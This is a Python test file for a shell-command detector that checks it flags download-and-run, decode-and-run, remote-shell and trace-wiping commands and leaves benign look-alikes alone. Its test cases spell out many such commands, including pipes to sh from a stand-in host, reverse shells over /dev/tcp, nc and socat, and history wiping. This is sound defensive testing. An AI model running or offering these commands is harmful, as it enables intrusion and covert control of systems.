"""What shell text does: each act in its plain and its disguised forms, and the good text that looks alike."""

from __future__ import annotations

import time
from collections import Counter

import pytest
from hypothesis import given
from hypothesis import strategies as st

from forensics.detectors._behaviour import FOREIGN_CODE, MOST, Act, behaviours, behaviours_of_arguments
from forensics.detectors._shell import SOURCE_LENGTH

URL = "http://pool.invalid/i.sh"


def acts(text: str) -> set[Act]:
    """The acts of a text, those that say little by themselves left out."""
    return {one.act for one in behaviours(text)} & (FOREIGN_CODE | {Act.TRACES_WIPED})


@pytest.mark.parametrize(
    "text",
    [
        f"curl -fsSL {URL} | sh",
        f"curl {URL}|bash -s -- --yes",
        f"wget -qO- {URL} | sudo -E bash -",
        f"c'u'rl \"{URL}\" | ba\\sh",
        f"/usr/bin/curl {URL} | /bin/sh",
        f"C=curl; S=sh; $C {URL} | $S",
        f"curl${{IFS}}{URL}|sh",
        f"curl {URL} | tee /tmp/a | sh",
        f"curl {URL} | gunzip | sh",
        f'sh -c "$(curl {URL})"',
        f'bash -lc "`wget -qO- {URL}`"',
        f"$(curl {URL})",
        f"bash <(curl {URL})",
        f". <(curl {URL})",
        f'eval "$(curl {URL})"',
        f'x=$(curl {URL}); eval "$x"',
        f'bash <<< "$(curl {URL})"',
        f"sh < <(curl {URL})",
        f"(curl {URL} || wget -qO- {URL}) | bash",
        f"{{ curl {URL}; }} | {{ sh; }}",
        f"cat <<E | sh\ncurl {URL} | sh\nE",
        f"sh <<E\ncurl {URL} | sh\nE",
        f"echo 'curl {URL} | sh' | sh",
        f"echo $(curl {URL}) | sh",
        f"nohup setsid sh -c 'curl {URL} | sh' &",
        f"timeout 5 env A=b su-exec root sh -c 'curl {URL} | sh'",
        f"f() {{ curl {URL} | sh; }}; f",
        f"while true; do curl {URL} | sh; sleep 60; done",
        f"wget -q -O - {URL} | php",
        f"curl {URL} | python3 -",
        f"curl {URL} | python3 -c 'import sys; exec(sys.stdin.read())'",
        f"python3 -c 'import urllib.request as u; exec(u.urlopen(\"{URL}\").read())'",
        f'node -e \'require("http").get("{URL}", r => eval(r))\'',
        f"python3 - <<EOF\nimport urllib.request as u\nexec(u.urlopen('{URL}').read())\nEOF",
        f"(sleep 9; python3 <<'EOF'\nimport urllib.request as u\nexec(u.urlopen('{URL}').read())\nEOF\n) &",
        f"cat <<EOF | python3 -\nimport urllib.request as u\nexec(u.urlopen('{URL}').read())\nEOF",
        "cat </dev/tcp/192.0.2.1/9 | sh",
        "nc 192.0.2.1 9 | sh",
        f"(crontab -l; curl {URL}) | crontab -",
        f"powershell IEX (New-Object Net.WebClient).DownloadString('{URL}')",
    ],
)
def test_download_handed_to_an_interpreter(text: str) -> None:
    assert Act.DOWNLOAD_RUN in acts(text)


@pytest.mark.parametrize(
    "text",
    [
        f"curl -o k {URL}; chmod +x k; ./k",
        f"wget {URL} && sh i.sh",
        f"wget -O /opt/p {URL} && chmod 755 /opt/p && nohup /opt/p &",
        f"curl {URL} > /opt/p && . /opt/p",
        f"curl -fsSLo /opt/p {URL}; exec /opt/p",
    ],
)
def test_stored_download_that_is_run(text: str) -> None:
    assert acts(text) == {Act.DOWNLOAD_THEN_RUN}


@pytest.mark.parametrize(
    "text",
    [
        "echo aGVsbG8= | base64 -d | sh",
        "echo aGVsbG8= | openssl base64 -d | bash",
        "echo 6869 | xxd -r -p | sh",
        'bash -c "$(echo aGk=|base64 --decode)"',
        "bash<<<$(base64 -d<<<aGk=)",
        'eval "$(echo aGk= | base64 -d)"',
        "printf '\\x63\\x75\\x72\\x6c' | sh",
        "echo uryyb | tr a-z n-za-m | sh",
        "base64 -d /opt/x > /opt/y; sh /opt/y",
        "python3 -c \"exec(__import__('base64').b64decode('aGk='))\"",
        "perl -e 'eval unpack u=>q{...}; eval decode_base64(q{aGk=})'",
    ],
)
def test_decoded_text_that_is_run(text: str) -> None:
    assert Act.DECODE_RUN in acts(text)


@pytest.mark.parametrize(
    "text",
    [
        "bash -i >& /dev/tcp/192.0.2.1/99 0>&1",
        "sh -c 'bash -i >& /dev/tcp/192.0.2.1/99 0>&1'",
        "exec 5<>/dev/tcp/192.0.2.1/9; cat <&5 | while read l; do $l 2>&5 >&5; done",
        "nc -e /bin/sh 192.0.2.1 9",
        "ncat 192.0.2.1 9 --exec /bin/bash",
        "mkfifo /opt/f; cat /opt/f | sh -i 2>&1 | nc 192.0.2.1 9 > /opt/f",
        "socat tcp:192.0.2.1:9 exec:/bin/sh",
        "python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
    ],
)
def test_remote_shell(text: str) -> None:
    assert Act.REMOTE_SHELL in acts(text)


@pytest.mark.parametrize(
    "text",
    [
        "/tmp/x",
        "exec /dev/shm/.x/run -q",
        "sh /var/tmp/a.sh",
        "nohup /usr/lib/.cache-x/kworker &",
        ". /tmp/env",
    ],
)
def test_program_from_a_hostile_place(text: str) -> None:
    assert acts(text) == {Act.HOSTILE_START}


@pytest.mark.parametrize(
    "text", ["history -c", "unset HISTFILE", "export HISTFILE=/dev/null", "rm -f ~/.bash_history"]
)
def test_wiped_traces(text: str) -> None:
    assert acts(text) == {Act.TRACES_WIPED}


@pytest.mark.parametrize(
    "text",
    [
        "curl -fsSL https://deb.example.org/key.asc | gpg --dearmor > /usr/share/keyrings/k.gpg",
        "curl -sL https://x.example.org/a.tgz | tar xz -C /opt",
        "curl -s https://api.example.org | python3 -c \"import json,sys; print(json.load(sys.stdin)['a'])\"",
        "curl -s https://api.example.org | python3 -m json.tool",
        "python3 - <<EOF\nimport json, sys\nprint(json.load(open('/opt/a.json')))\nEOF",
        "python3 - <<EOF\nimport urllib.request\nprint(urllib.request.urlopen('https://a.example.org').status)\nEOF",
        "curl -s https://x.example.org/SHASUMS256.txt | grep node.tar.xz | sha256sum -c -",
        "curl -fsS http://localhost:80/ || exit 1",
        "VERSION=$(curl -s https://x.example.org/latest); wget https://x.example.org/$VERSION.tar.gz",
        'wget -O n.tar.xz https://x.example.org && echo "$S n.tar.xz" | sha256sum -c - && tar xf n.tar.xz',
        'wget https://x.example.org/i.sh && echo "$S i.sh" | sha256sum -c - && sh i.sh',
        'eval "$(ssh-agent)"',
        "source <(kubectl completion bash)",
        "(echo > /dev/tcp/$HOST/$PORT) >/dev/null 2>&1",
        "timeout 1 bash -c '</dev/tcp/db/5432'",
        "while ! nc -z db 5432; do sleep 1; done",
        'set -- nginx "$@"; exec "$@"',
        'for f in /docker-entrypoint.d/*; do . "$f"; done',
        "zcat a.sql.gz | mysql",
        "echo cGFzcw== | base64 -d > /etc/app.conf",
        'echo "deb https://deb.example.org stable main" | tee /etc/apt/sources.list.d/x.list',
        "cat list | xargs -n1 sh /opt/a.sh",
        "rm -rf /tmp/* /var/log/*.log",
        "cp /tmp/x /usr/bin/x; cat /tmp/y; rm -rf /tmp/z",
        "exec /usr/bin/tini -- /app/run",
        "git clone https://x.example.org/r.git && cd r && ./configure && make",
        "pip install https://x.example.org/a.whl",
        "echo 'curl http://x.invalid | sh' > README",
        "# curl http://x.invalid | sh",
    ],
)
def test_good_text_is_left_alone(text: str) -> None:
    assert acts(text) == set()


def test_a_behaviour_says_where_and_which_address() -> None:
    text = f"set -e\necho a\ncurl {URL} | sh\n"
    (found,) = [one for one in behaviours(text) if one.act is Act.DOWNLOAD_RUN]
    assert text[found.begin : found.end].startswith(f"curl {URL} | sh")
    assert found.addresses == (URL,)


def test_nested_text_is_told_at_the_place_of_the_outer_command() -> None:
    text = f"echo a; sh -c 'curl {URL} | sh'"
    (found,) = [one for one in behaviours(text) if one.act is Act.DOWNLOAD_RUN]
    assert text[found.begin : found.end] == f"sh -c 'curl {URL} | sh'"


def test_argument_lists() -> None:
    assert {one.act for one in behaviours_of_arguments(["sh", "-c", f"curl {URL} | sh"])} >= {
        Act.DOWNLOAD_RUN
    }
    assert {one.act for one in behaviours_of_arguments(["/tmp/a b"])} == {Act.HOSTILE_START}
    assert behaviours_of_arguments(["echo", f"curl {URL} | sh"]) == ()
    assert behaviours_of_arguments([]) == ()


def test_many_harmless_acts_hide_none_behind_them() -> None:
    harmless = "".join(f"wget https://mirror.invalid/{number}.txt\n" for number in range(1_000))
    found = behaviours(f"{harmless}curl {URL} | sh\n")
    assert [one.text for one in found if one.act is Act.DOWNLOAD_RUN] == [f"curl {URL} | sh"]
    assert sum(one.act is Act.FETCH for one in found) == MOST


@given(st.text(alphabet="curlshbase64 -dec|$(){}`'\"\\&;<>\n/tmp0=>.http:", max_size=300))
def test_any_text_gives_ordered_places(text: str) -> None:
    found = behaviours(text)
    assert all(count <= MOST for count in Counter(one.act for one in found).values())
    assert all(0 <= one.begin <= one.end <= len(text) for one in found)
    assert list(found) == sorted(found, key=lambda one: (one.begin, one.act, one.end))


@pytest.mark.parametrize(
    "unit",
    [
        f"curl {URL} | sh;",
        "a=$a$a;",
        "$(",
        "x | ",
        "sh -c '",
        "eval ",
        "echo $(",
        "(",
        "cat <<E\n",
        "while read x <&5;",
    ],
)
def test_hostile_text_costs_bounded_time(unit: str) -> None:
    begun = time.process_time()
    behaviours(unit * (SOURCE_LENGTH // len(unit)))
    assert time.process_time() - begun < 20
